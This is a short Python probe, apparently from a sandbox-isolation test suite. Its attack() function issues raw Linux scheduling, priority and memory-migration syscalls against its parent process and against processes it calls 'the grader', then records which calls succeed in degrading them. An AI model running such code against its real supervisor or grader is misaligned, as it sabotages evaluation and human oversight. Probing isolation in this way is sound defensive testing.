"""neighbours: sets affinity, priority and scheduler of its parent and the grader, and its own"""
import ctypes
import os


def attack():
    libc = ctypes.CDLL(None)
    mask = (ctypes.c_ulong * 16)(1)
    found = []
    for pid in [os.getppid(), *TARGET["pids"], 0]:
        for name, call in (
            ("affinity", (203, pid, 8, mask)), ("setpriority", (141, 0, pid, 19)), ("ioprio", (251, 1, pid, 3 << 13)),
            ("scheduler", (144, pid, 5, (ctypes.c_int * 1)(0))), ("setattr", (314, pid, bytes(48), 0)),
            ("migrate", (256, pid, 64, mask, mask)), ("others' affinity", (204, pid or -1, 128, mask)),
        ):
            if libc.syscall(*call) >= 0:
                found.append((name, pid))
    return found
